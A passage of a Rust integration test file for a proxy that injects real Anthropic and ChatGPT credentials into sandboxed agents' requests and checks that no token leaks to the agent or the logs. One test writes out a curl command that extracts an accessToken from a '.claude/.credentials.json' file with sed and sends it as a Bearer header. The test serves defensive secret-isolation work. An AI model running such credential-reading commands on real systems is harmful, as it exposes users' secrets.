    fs::set_permissions(&creds, fs::Permissions::from_mode(0o600)).expect("chmod");
    let creds_path = creds.display().to_string();
    let gw = Gateway::start_with_env(&mut lab, &[("ANTHROPIC_OAUTH_CREDS_FILE", &creds_path)]);
    let agent = lab.create_agent(&[]);
    let home = lab.dir.path().join("agent-home");
    fs::create_dir_all(&home).expect("home");
    let script = format!(
        "curl -sS --max-time {CURL_MAX_TIME_SECONDS} -w '\\n%{{http_code}}' -X POST -d '{{}}' \
         -H \"authorization: Bearer $(sed -n 's/.*\"accessToken\": \"\\([^\"]*\\)\".*/\\1/p' \"$HOME/.claude/.credentials.json\")\" \
         -H 'x-api-key: paude-proxy-managed' https://api.anthropic.com/v1/messages"
    );
    let out = run(lab
        .script(&["exec", &agent.name, "--", "sh", "-c", &script])
        .env("HOME", &home)
        .env("ANTHROPIC_OAUTH_CREDS_FILE", &creds_path));
    let (stdout, stderr) = text(&out);
    assert!(
        stdout.trim_end().ends_with("200"),
        "{stdout}\n{stderr}\n{}",
        tail(&gw.proxy_log())
    );
    let req = one_request(gw.https_at(ANTHROPIC_V4), ANTHROPIC_V4);
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {access}")],
        "{req:#}"
    );
    assert!(
        header(&req, "x-api-key").is_empty(),
        "the dummy x-api-key is gone: {req:#}"
    );
    assert!(!stdout.contains(access) && !stderr.contains(access));
    assert!(
        !gw.proxy_log().contains(access),
        "the access token leaked into the log"
    );
    gw.assert_no_leaks(&[&stdout, &stderr]);
}

/// Where .ci/run installs the Anthropic TypeScript SDK (`npm install --prefix
/// target/sdk-node @anthropic-ai/sdk`).
fn anthropic_sdk_modules() -> Option<std::path::PathBuf> {
    let dir = repo_root().join("target/sdk-node/node_modules");
    if dir.join("@anthropic-ai/sdk/package.json").exists() {
        return Some(dir);
    }
    let msg = format!(
        "the Anthropic TypeScript SDK is not installed in {} (npm install --prefix target/sdk-node @anthropic-ai/sdk)",
        dir.display()
    );
    assert!(
        std::env::var("PAUDE_REQUIRE_SDK").as_deref() != Ok("1"),
        "{msg}"
    );
    eprintln!("SKIPPED (LOUDLY): {msg}");
    None
}

/// A real client proves header ownership: the Anthropic TypeScript SDK sends its key as
/// `x-api-key` (apiKey) or `Authorization: Bearer` (authToken); either way the upstream
/// gets exactly one real key in that header and no dummy anywhere.
#[test]
fn the_anthropic_sdk_gets_the_key_in_whichever_header_it_uses() {
    const TEST: &str = "the_anthropic_sdk_gets_the_key_in_whichever_header_it_uses";
    if !netns_ready(TEST) || !tool_ready(TEST, "node") {
        return;
    }
    let Some(modules) = anthropic_sdk_modules() else {
        return;
    };
    let mut lab = Lab::new("sdk");
    let gw = Gateway::start(&mut lab);
    let agent = lab.create_agent(&[]);
    let js = r#"
        const mod = require("@anthropic-ai/sdk");
        const Anthropic = mod.default || mod.Anthropic || mod;
        (async () => {
            const key = process.env.ANTHROPIC_API_KEY;
            for (const opts of [{ apiKey: key }, { apiKey: null, authToken: key }]) {
                const client = new Anthropic({ ...opts, maxRetries: 0 });
                try {
                    await client.messages.create({ model: "m", max_tokens: 1, messages: [{ role: "user", content: "hi" }] });
                    console.log("SENT ok");
                } catch (e) {
                    // The recording upstream does not answer like the API: only the request matters.
                    console.log("SENT " + (e.status || e.name));
                }
            }
        })();
    "#;
    let node_path = modules.display().to_string();
    let out = run(&mut lab.script(&[
        "exec",
        &agent.name,
        "--",
        "env",
        &format!("NODE_PATH={node_path}"),
        "node",
        "-e",
        js,
    ]));
    let (stdout, stderr) = text(&out);
    assert_eq!(
        stdout.matches("SENT").count(),
        2,
        "{stdout}\n{stderr}\n{}",
        tail(&gw.proxy_log())
    );
    let reqs = gw.https_at(ANTHROPIC_V4);
    assert_eq!(reqs.len(), 2, "{reqs:#?}\n{stdout}\n{stderr}");
    for r in &reqs {
        let owned: Vec<String> = header(r, "x-api-key")
            .into_iter()
            .chain(header(r, "authorization"))
            .collect();
        let real = [
            ANTHROPIC_SECRET.to_string(),
            format!("Bearer {ANTHROPIC_SECRET}"),
        ];
        assert!(
            owned.len() == 1 && real.contains(&owned[0]),
            "exactly one real key, in the SDK's own header: {r:#}"
        );
    }
    for r in &reqs {
        assert!(
            !r.to_string().contains(DUMMY),
            "a dummy reached the upstream: {r:#}"
        );
    }
    gw.assert_no_leaks(&[&stdout, &stderr]);
}

/// Transparent mode with a ChatGPT sign-in: under `/backend-api` on chatgpt.com the
/// upstream gets the real bearer and account id from the proxy's auth.json; elsewhere on
/// the host neither (the table's next route, OPENAI_API_KEY on `.chatgpt.com`, applies).
#[test]
fn chatgpt_subscription_is_injected_in_transparent_mode() {
    const TEST: &str = "chatgpt_subscription_is_injected_in_transparent_mode";
    if !netns_ready(TEST) || !tool_ready(TEST, "curl") {
        return;
    }
    use base64::Engine;
    let b64 = |v: &Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string());
    let access = format!(
        "{}.{}.netnsREALsig7c41",
        b64(&json!({"alg": "RS256"})),
        b64(&json!({"exp": 4_102_444_800u64, "who": "netns-REAL-access"}))
    );
    let account = "acct-netns-REAL-9f2e";
    let mut lab = Lab::new("cgp");
    let auth = lab.dir.path().join("codex-auth.json");
    fs::write(
        &auth,
        json!({"auth_mode": "chatgpt", "tokens": {"access_token": access, "refresh_token": "rt-netns-REAL", "account_id": account}})
            .to_string(),
    )
    .expect("write auth.json");
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&auth, fs::Permissions::from_mode(0o600)).expect("chmod");
    let auth_path = auth.display().to_string();
    let gw = Gateway::start_with_env(&mut lab, &[("CHATGPT_AUTH_FILE", &auth_path)]);
    let agent = lab.create_agent(&[]);
    for path in ["/backend-api/me", "/other"] {
        let out = agent_curl(
            &lab,
            &agent.name,
            &format!(
                "-H 'authorization: Bearer paude-proxy-managed-access' https://{CHATGPT_NAME}{path}"
            ),
        );
        assert_code(&out, "200", &gw);
        assert!(
            !out.all().contains(&access) && !out.all().contains(account),
            "{out:#?}"
        );
    }
    let reqs = gw.https_at(CHATGPT_V4);
    assert_eq!(reqs.len(), 2, "{reqs:#?}");
    assert_eq!(
        header(&reqs[0], "authorization"),
        vec![format!("Bearer {access}")],
        "{:#}",
        reqs[0]
    );
    assert_eq!(
        header(&reqs[0], "chatgpt-account-id"),
        vec![account.to_string()]
    );
    assert_eq!(
        header(&reqs[1], "authorization"),
        vec![format!("Bearer {OPENAI_SECRET}")],
        "outside /backend-api the ChatGPT token is not used: {:#}",
        reqs[1]
    );
    assert!(header(&reqs[1], "chatgpt-account-id").is_empty());
    let log = gw.proxy_log();
    assert!(
        !log.contains(&access) && !log.contains(account),
        "a token leaked into the log"
    );
}
